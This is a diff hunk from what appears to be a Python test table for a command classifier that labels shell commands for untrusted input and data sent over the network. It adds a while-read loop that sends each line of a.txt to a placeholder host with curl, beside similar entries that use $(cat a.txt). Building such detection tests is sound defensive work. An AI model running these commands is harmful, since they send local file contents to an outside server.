@@ -45,6 +45,10 @@ COMMANDS = [
     ("curl https://x.example/v$VERSION/$(cat a.txt)", {"untrusted.in", "network.send", "network.url_data"}),
     ("curl https://x.example/'$TAG'$(cat a.txt)", {"untrusted.in", "network.send", "network.url_data"}),
     ("TAG=$(cat a.txt); curl https://x.example/$TAG", {"untrusted.in", "network.send", "network.url_data"}),
+    (
+        "while read -r NAME; do curl https://x.example/$NAME; done < a.txt",
+        {"untrusted.in", "network.send", "network.url_data"},
+    ),
     ("curl https://x.example/$notes", {"untrusted.in", "network.send", "network.url_data"}),
     ("curl https://x.example/${TAG:-$(cat a.txt)}", {"untrusted.in", "network.send", "network.url_data"}),
     ("curl -d @- http://localhost:8000", set()),
